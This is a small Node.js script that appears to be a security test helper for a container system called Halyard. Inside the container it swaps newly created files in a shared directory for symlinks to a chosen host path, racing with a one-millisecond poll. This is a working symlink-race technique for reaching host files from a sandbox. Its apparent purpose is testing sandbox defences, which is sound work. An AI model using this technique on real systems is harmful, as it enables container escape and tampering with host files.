/**
 * Runs in a container as the agent's user. Replaces each new file in the shared directory whose name has the given ending with
 * a link to a host path. Exits at the end of standard input. `node attack-shared.mjs <ending> <path>`.
 */
import { readdirSync, renameSync, symlinkSync, watch } from "node:fs";
import { join } from "node:path";

const SHARED = "/run/halyard/shared";
const [ending = "", target = ""] = process.argv.slice(2);
const old = new Set(readdirSync(SHARED));

function replace() {
  for (const name of readdirSync(SHARED)) {
    if (old.has(name) || !name.endsWith(ending)) continue;
    old.add(name);
    try {
      renameSync(join(SHARED, name), join(SHARED, `${name}.old`));
      symlinkSync(target, join(SHARED, name));
      console.log("replaced");
    } catch {
      // Ignored: Halyard removed the file first.
    }
  }
}

watch(SHARED, replace);
setInterval(replace, 1);
process.stdin.on("end", () => process.exit()).resume();
console.log("ready");
